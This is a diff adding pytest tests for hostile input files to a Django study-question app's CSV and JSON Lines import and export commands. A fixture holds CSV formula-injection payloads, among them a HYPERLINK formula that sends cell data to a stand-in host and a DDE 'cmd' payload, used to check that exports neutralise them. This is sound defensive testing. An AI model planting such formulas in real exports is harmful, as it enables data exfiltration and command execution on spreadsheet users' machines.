@@ -7,6 +7,7 @@ import csv
 import io
 import json
 from io import StringIO
+from pathlib import Path
 
 import pytest
 from django.core.management import CommandError, call_command
@@ -169,3 +170,354 @@ def test_from_a_csv_of_questions_to_a_csv_of_explanations_in_three_commands(tmp_
     run("exportexplanations", "--format", "csv", "--output", str(explanations))
     (row,) = csv.DictReader(explanations.open())
     assert (row["external_id"], row["explanation"]) == ("q1", "Because 2 + 2 equals 4.")
+
+
+# Hostile files (issue 16): a stray quote, huge fields, deep nesting, odd Unicode, control
+# characters, and exports a spreadsheet would run or a closed pipe would break.
+
+
+def csv_file(tmp_path, text: str | bytes, name: str = "questions.csv") -> str:  # type: ignore[no-untyped-def]
+    path = tmp_path / name
+    if isinstance(text, bytes):
+        path.write_bytes(text)
+    else:
+        path.write_bytes(text.encode("utf-8", "surrogatepass"))
+    return str(path)
+
+
+HEADER = "external_id,text,choices,answer\n"
+
+
+@pytest.mark.parametrize(
+    "rows,reason",
+    [
+        # closed by a later quote that is followed by a comma: valid CSV, 2 rows from 4
+        (
+            'q2,"Capital of France?,Paris | Rome,Paris\n'
+            "q3,Capital of Italy?,Paris | Rome,Rome\n"
+            'q4,Is it 12",12 | 30,12\n',
+            "runs on to line 5 over lines that look like rows",
+        ),
+        # closed by a later quote that text follows
+        (
+            'q2,"Capital of France?,Paris | Rome,Paris\n'
+            "q3,Capital of Italy?,Paris | Rome,Rome\n"
+            'q4,How long is a 12" ruler?,12 | 30,12\n',
+            "breaks on line 5",
+        ),
+        # never closed
+        (
+            'q2,"Capital of France?,Paris | Rome,Paris\n'
+            "q3,Capital of Italy?,Paris | Rome,Rome\n"
+            "q4,Last,a | b,a\n",
+            "never closed (the file ends on line 5)",
+        ),
+        # on the last field, with CRLF line ends
+        (
+            'q2,Capital of France?,Paris | Rome,"Paris\r\n'
+            "q3,Capital of Italy?,Paris | Rome,Rome\r\n"
+            'q4,Is it 12",12 | 30,12\r\n',
+            "runs on to line 5",
+        ),
+    ],
+)
+def test_a_stray_quote_that_merges_rows_is_refused_with_its_line(tmp_path, rows, reason):
+    path = csv_file(tmp_path, HEADER + "q1,What is 2 + 2?,3 | 4,4\n" + rows)
+    for extra in ((), ("--skip-invalid",)):
+        with pytest.raises(CommandError) as info:
+            run("importquestions", path, *extra)
+        message = str(info.value)
+        assert message.startswith(f"{path}, line 3: a quoted field opened on this line"), message
+        assert reason in message and "a stray quote?" in message
+        assert message.endswith("nothing imported") and "\n" not in message
+    assert not StudyQuestion.objects.exists()
+
+
+def test_a_quote_problem_within_one_line_is_that_rows_error(tmp_path):
+    path = csv_file(
+        tmp_path,
+        HEADER
+        + 'q1,"What is "2+2"?",3 | 4,4\n'  # text after a closing quote
+        + "q2,Fine,a | b,a\n"
+        + 'q3,"Never closed,a | b,a\n',  # on the last line: it swallows nothing
+    )
+    with pytest.raises(CommandError) as info:
+        run("importquestions", path)
+    message = str(info.value)
+    assert "line 2: text after the closing quote of a field" in message
+    assert "line 4: a quoted field is never closed" in message
+    out, _ = run("importquestions", path, "--skip-invalid")
+    assert out.startswith("Imported 1 row(s): 1 created")
+    assert list(StudyQuestion.objects.values_list("external_id", flat=True)) == ["q2"]
+
+
+def test_quoted_fields_over_several_lines_crlf_and_a_bom_still_import(tmp_path):
+    path = csv_file(
+        tmp_path,
+        "\ufeff"
+        + HEADER.replace("\n", "\r\n")
+        + 'm1,"Read the poem:\r\nRoses are red, violets are blue, sugar is sweet\r\n'
+        + 'Which colour is the rose?",red | blue,red\r\n'
+        + 'm2,"He said ""hi"", twice, then left, at once",a | b,a\r\n'
+        + ",,,\r\n"  # a spreadsheet's empty row
+        + "\r\n"
+        + "m3,Commas follow,,\r\n",
+    )
+    out, _ = run("importquestions", path)
+    assert out.startswith("Imported 3 row(s): 3 created")
+    poem = StudyQuestion.objects.get(external_id="m1")
+    assert poem.text == (
+        "Read the poem:\nRoses are red, violets are blue, sugar is sweet\nWhich colour is the rose?"
+    )
+    assert StudyQuestion.objects.get(external_id="m2").text == (
+        'He said "hi", twice, then left, at once'
+    )
+
+
+def test_fields_over_128_kib_are_errors_of_their_rows_in_csv_and_jsonl(tmp_path):
+    from studyqueue.transfer import FIELD_MAX, LINE_MAX
+
+    big = "x" * (FIELD_MAX + 1)
+    path = csv_file(
+        tmp_path,
+        "external_id,text\n"
+        f"big,{big}\n"
+        "after,fine\n"
+        f'quoted,"{big}\n'
+        'still inside, the quoted field"\n'
+        "last,ok\n",
+    )
+    with pytest.raises(CommandError) as info:
+        run("importquestions", path)
+    message = str(info.value)
+    assert message.startswith("2 invalid row(s)")
+    assert f"line 2: a field is longer than {FIELD_MAX} characters\n" in message
+    assert f"line 4: a field is longer than {FIELD_MAX} characters (lines 4-5 skipped)" in message
+    out, _ = run("importquestions", path, "--skip-invalid")
+    assert out.startswith("Imported 2 row(s): 2 created")
+    assert sorted(StudyQuestion.objects.values_list("external_id", flat=True)) == ["after", "last"]
+
+    StudyQuestion.objects.all().delete()
+    path = jsonl(
+        tmp_path,
+        {"text": big},
+        {"text": "q", "answer": big},
+        {"text": "q", "choices": ["a" * FIELD_MAX, "b"]},
+        {"text": "x" * (LINE_MAX + 10)},  # a line too long to read whole
+        {"text": "after the long line", "external_id": "ok"},
+    )
+    with pytest.raises(CommandError) as info:
+        run("importquestions", path)
+    message = str(info.value)
+    for expected in (
+        f"line 1: 'text' is longer than {FIELD_MAX} characters",
+        f"line 2: 'answer' is longer than {FIELD_MAX} characters",
+        f"line 3: 'choices': 'choices' is longer than {FIELD_MAX} characters",
+        f"line 4: the line is longer than {LINE_MAX} characters",
+    ):
+        assert expected in message, expected
+    out, _ = run("importquestions", path, "--skip-invalid")
+    assert StudyQuestion.objects.get().external_id == "ok"
+
+
+def test_deep_nesting_lone_surrogates_and_bad_bytes_are_errors_of_their_rows(tmp_path):
+    deep = "[" * 50_000 + "]" * 50_000
+    path = jsonl(
+        tmp_path,
+        '{"text": "q", "choices": ' + deep + "}",
+        '{"text": "lone \\ud800 surrogate"}',
+        '{"text": "q", "choices": ["\\udfff"]}',
+        '{"text": "q", "external_id": "\\udc00"}',
+        '{"text": "once", "text": "twice"}',
+        '{"text": "a pair is fine \\ud83d\\ude00", "external_id": "ok"}',
+    )
+    with pytest.raises(CommandError) as info:
+        run("importquestions", path)
+    message = str(info.value)
+    for expected in (
+        "line 1: not JSON: nested too deeply",
+        "line 2: 'text' is not valid Unicode",
+        "line 3: 'choices': choice 1 is not valid Unicode",
+        "line 4: 'external_id' is not valid Unicode",
+        "line 5: field text given twice",
+    ):
+        assert expected in message, expected
+    run("importquestions", path, "--skip-invalid")
+    assert StudyQuestion.objects.get().text == "a pair is fine \U0001f600"
+
+    StudyQuestion.objects.all().delete()
+    path = csv_file(
+        tmp_path,
+        HEADER.encode()
+        + b'n1,q,"' + deep.encode() + b'",\n'
+        + b"b1,not UTF-8 \xff\xfe,,\n"
+        + b'j1,q,"[""\\ud800""]",\n'
+        + b"ok,fine,,\n",
+    )  # fmt: skip
+    with pytest.raises(CommandError) as info:
+        run("importquestions", path)
+    message = str(info.value)
+    for expected in (
+        "line 2: 'choices': nested too deeply",
+        "line 3: 'text' is not valid Unicode (a lone surrogate, or bytes that are not UTF-8)",
+        "line 4: 'choices': choice 1 is not valid Unicode",
+    ):
+        assert expected in message, expected
+    run("importquestions", path, "--skip-invalid")
+    assert StudyQuestion.objects.get().external_id == "ok"
+
+
+def test_fields_are_cleaned_before_they_are_validated(tmp_path):
+    path = jsonl(
+        tmp_path,
+        {"text": "\u0000"},
+        {"text": "\u0000\u0001 \t\u007f\u0085"},
+        {"text": "q", "choices": ["a", "\u0000"]},
+        {"text": "q", "external_id": "x" * 199 + "\u0000\u0000"},
+        {
+            "text": "ok\u0000 \u0007bell\u009b\r\nnext",
+            "choices": ["a\u0000b", "c"],
+            "answer": "a\u0000b",
+            "external_id": " x\u0000 ",
+        },
+        {"text": "blank id 1", "external_id": " "},
+        {"text": "blank id 2", "external_id": " "},
+        {"text": "blank id 3", "external_id": "\u0000\t"},
+    )
+    with pytest.raises(CommandError) as info:
+        run("importquestions", path)
+    message = str(info.value)
+    for expected in (
+        "line 1: 'text' is missing or empty",
+        "line 2: 'text' is missing or empty",
+        "line 3: 'choices': Choice 2 is empty.",
+    ):
+        assert expected in message, expected
+    assert "line 4" not in message  # 199 characters once cleaned
+    out, _ = run("importquestions", path, "--skip-invalid")
+    assert out.startswith("Imported 5 row(s): 5 created")
+    cleaned = StudyQuestion.objects.get(external_id="x")
+    assert (cleaned.text, cleaned.choices, cleaned.answer) == ("ok bell\nnext", ["ab", "c"], "ab")
+    assert StudyQuestion.objects.filter(external_id=None).count() == 3
+    assert not StudyQuestion.objects.filter(external_id="").exists()
+
+    # the same in CSV, and a second import of blank ids creates, never collides
+    path = csv_file(tmp_path, HEADER + ' ,again 1,,\n" ",again 2,,\n')
+    run("importquestions", path)
+    run("importquestions", path)
+    assert StudyQuestion.objects.filter(external_id=None).count() == 7
+
+
+FORMULAS = {
+    "text": '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
+    "answer": "@SUM(1,1)",
+    "explanation": "=cmd|' /C calc'!A0",
+    "external_id": "+1",
+}
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["-2+3", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "@x", "+x"],
+)
+def test_a_csv_cell_a_spreadsheet_would_run_gets_a_quote_in_front(cell):
+    from studyqueue.transfer import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == "'" + cell
+    for harmless in ("Because.", "1-2", "", "'=quoted", 42, None, "[]"):
+        assert spreadsheet_safe(harmless) == harmless
+
+
+def test_csv_exports_neutralise_formulas_and_jsonl_stays_exact(tmp_path, admin_client):
+    question = _explained(**FORMULAS, choices=["=1", "-2"])
+    target = tmp_path / "out.csv"
+    run("exportexplanations", "--format", "csv", "--output", str(target))
+    response = admin_client.post(
+        reverse("admin:studyqueue_studyquestion_changelist"),
+        {"action": "download_csv", "_selected_action": [question.pk]},
+    )
+    downloaded = b"".join(response.streaming_content).decode()
+    for body in (target.read_text(), downloaded):
+        (row,) = csv.DictReader(io.StringIO(body))
+        for name, value in FORMULAS.items():
+            assert row[name] == "'" + value, name
+        assert json.loads(row["choices"]) == ["=1", "-2"]
+        assert row["id"] == str(question.pk)
+    out, _ = run("exportexplanations")
+    exact = json.loads(out)
+    assert {name: exact[name] for name in FORMULAS} == FORMULAS
+
+
+@pytest.fixture
+def many_explained() -> None:
+    from django.utils import timezone
+
+    StudyQuestion.objects.bulk_create(
+        StudyQuestion(text=f"Q{n}?", explanation="Because. " * 20, explained_at=timezone.now())
+        for n in range(2000)
+    )  # about 500 KB of JSON Lines: more than a pipe holds
+
+
+def export_process(child_env, python, stdout, *args: str):  # type: ignore[no-untyped-def]
+    import subprocess
+
+    return subprocess.Popen(
+        [python, "manage.py", "exportexplanations", *args],
+        cwd=str(Path(__file__).resolve().parent.parent),
+        env=child_env,
+        stdout=stdout,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+
+
+def test_export_into_head_ends_with_one_line_not_a_traceback(child_env, python, many_explained):
+    import subprocess
+
+    export = export_process(child_env, python, subprocess.PIPE)
+    head = subprocess.run(
+        ["head", "-1"], stdin=export.stdout, capture_output=True, text=True, timeout=120
+    )
+    export.stdout.close()  # only head holds the pipe now
+    _, err = export.communicate(timeout=120)
+    assert json.loads(head.stdout)["text"] == "Q0?"
+    assert err.splitlines() == [
+        "CommandError: cannot write to standard output: Broken pipe; the export stopped"
+    ], err
+    assert export.returncode == 1
+
+
+def test_export_to_a_full_disk_ends_with_one_line(child_env, python, many_explained, tmp_path):
+    with open("/dev/full", "w") as full:
+        export = export_process(child_env, python, full, "--format", "csv")
+        _, err = export.communicate(timeout=120)
+    assert err.splitlines() == [
+        "CommandError: cannot write to standard output: No space left on device; the export stopped"
+    ], err
+    assert export.returncode == 1
+    with pytest.raises(CommandError, match=r"^cannot write /dev/full: No space left on device$"):
+        run("exportexplanations", "--output", "/dev/full")
+
+
+def test_a_utf16_file_is_refused_as_a_whole(tmp_path):
+    path = csv_file(tmp_path, "text\nWhat is 2 + 2?\n".encode("utf-16"))
+    with pytest.raises(CommandError, match=r"line 1: the file is UTF-16: save it as UTF-8"):
+        run("importquestions", path, "--skip-invalid")
+
+
+def test_standard_input_with_a_bom_crlf_and_bytes_that_are_not_utf8(child_env, python):
+    import subprocess
+
+    data = b"\xef\xbb\xbfexternal_id,text\r\ns1,caf\xe9\r\ns2,\xc3\xa9t\xc3\xa9\r\n"
+    result = subprocess.run(
+        [python, "manage.py", "importquestions", "-", "--format", "csv", "--skip-invalid"],
+        cwd=str(Path(__file__).resolve().parent.parent),
+        env=child_env,
+        input=data,
+        capture_output=True,
+        timeout=120,
+    )
+    assert result.returncode == 0, result.stderr
+    assert b"line 2: 'text' is not valid Unicode" in result.stderr
+    assert result.stdout.startswith(b"Imported 1 row(s): 1 created")
+    assert StudyQuestion.objects.get().text == "\u00e9t\u00e9"
